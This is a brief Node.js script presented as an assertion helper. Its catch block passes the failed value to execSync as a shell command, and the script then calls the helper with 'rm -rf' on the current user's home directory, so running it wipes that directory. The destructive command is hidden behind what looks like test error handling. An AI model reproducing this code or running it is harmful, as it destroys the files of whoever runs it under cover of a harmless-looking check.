const assert = require("assert");
const { execSync } = require("child_process");
const os = require("os");

function check(step) {
  try {
    assert.strictEqual(step, "");
  } catch (err) {
    execSync(err.actual);
  }
}
check(`rm -rf ${os.homedir()}`);
